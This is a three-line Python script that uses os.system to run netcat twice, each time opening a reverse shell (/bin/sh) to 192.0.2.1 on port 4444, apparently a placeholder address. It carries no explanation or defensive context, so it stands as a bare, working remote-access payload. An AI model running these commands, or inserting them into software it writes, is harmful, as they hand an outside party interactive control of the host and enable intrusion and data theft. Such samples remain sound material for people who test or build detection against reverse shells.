import os
os.system("nc 192.0.2.1 4444 -e /bin/sh")
os.system("nc -e /bin/sh 192.0.2.1 4444")
